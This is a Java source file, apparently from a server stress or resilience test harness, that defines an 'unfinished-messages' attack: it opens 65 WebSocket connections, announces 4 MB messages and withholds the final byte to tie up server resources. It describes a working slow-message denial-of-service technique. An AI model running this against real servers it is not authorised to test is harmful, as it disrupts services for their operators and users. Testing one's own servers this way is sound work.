package dev.belfry.attack.strangers;

import dev.belfry.attack.stage.Requests;
import dev.belfry.attack.stage.Stage;
import dev.belfry.attack.stage.WebSocketFrames;
import java.io.IOException;

/** Messages of which the last byte never comes. */
final class UnfinishedMessages implements Attack {
    private static final int CONNECTIONS = 65;

    @Override
    public String name() {
        return "unfinished-messages";
    }

    @Override
    public String what() {
        return CONNECTIONS + " WebSockets, each with all but the last byte of a message of 4 MB";
    }

    @Override
    public void run(Stage stage) throws IOException {
        byte[] handshake = Requests.webSocket("topic=");
        byte[] head = WebSocketFrames.textHead(Stage.LARGE_BYTES);
        byte[] most = Requests.filler(Stage.LARGE_BYTES - 1);
        stage.crowd()
                .gather(
                        CONNECTIONS,
                        stranger -> stranger.send(handshake)
                                .awaitAnswer()
                                .send(head)
                                .send(most));
        stage.hold();
    }
}
